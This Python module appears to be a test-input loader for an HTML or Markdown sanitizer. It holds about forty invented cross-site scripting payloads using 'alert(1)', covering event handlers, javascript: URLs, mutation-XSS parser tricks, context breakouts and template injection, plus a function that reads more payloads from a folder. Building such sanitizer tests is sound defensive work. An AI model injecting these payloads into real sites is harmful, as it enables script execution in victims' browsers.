"""Texts that would run in a reader's browser if they were let through: invented ones, of the kinds that collections publish."""

import json
from pathlib import Path

RUN = "alert(1)"

INVENTED = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f'<a href="javascript:{RUN}">a ferry</a>',
    f'<a href="java&#x0a;script:{RUN}">a ferry</a>',
    f'<a href=" &#14; javascript:{RUN}">a ferry</a>',
    f"<svg><script>{RUN}</script></svg>",
    f"<svg onload={RUN}>",
    f'<svg><animate xlink:href="#a" attributeName="href" values="javascript:{RUN}"/><a id="a"><text>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={RUN} /></svg>#x" />',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<template><img src=x onerror={RUN}></template>",
    f'<template shadowrootmode="open"><img src=x onerror={RUN}></template>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f'<embed src="data:text/html,<script>{RUN}</script>">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f'<base href="javascript:/"><a href="//{RUN}">a ferry</a>',
    f'<form action="javascript:{RUN}"><button>a ferry</button></form>',
    f"<button popovertarget=x>a ferry</button><x onbeforetoggle={RUN} popover id=x>a pier</x>",
    f"<details open ontoggle={RUN}>a ferry</details>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>a ferry</b>",
    f"]]><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\u003cimg src=x onerror={RUN}\u003e",
    f"<\x00script>{RUN}</script>",
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
    f"[a ferry](javascript:{RUN})",
    f'![a ferry](x "onerror={RUN}")',
    f"<javascript:{RUN}>",
    "{{constructor.constructor('" + RUN + "')()}}",
    "${" + RUN + "}",
)


def payloads(folder: str | None) -> list[str]:
    """Return the texts of a folder's files: JSON lists, and lines of other files; the invented ones where none is named."""
    if folder is None:
        return list(INVENTED)
    texts: list[str] = []
    for file in sorted(Path(folder).iterdir()):
        content = file.read_text(encoding="utf-8", errors="replace")
        texts += json.loads(content) if file.suffix == ".json" else content.splitlines()
    return list(dict.fromkeys(text for text in texts if text.strip()))
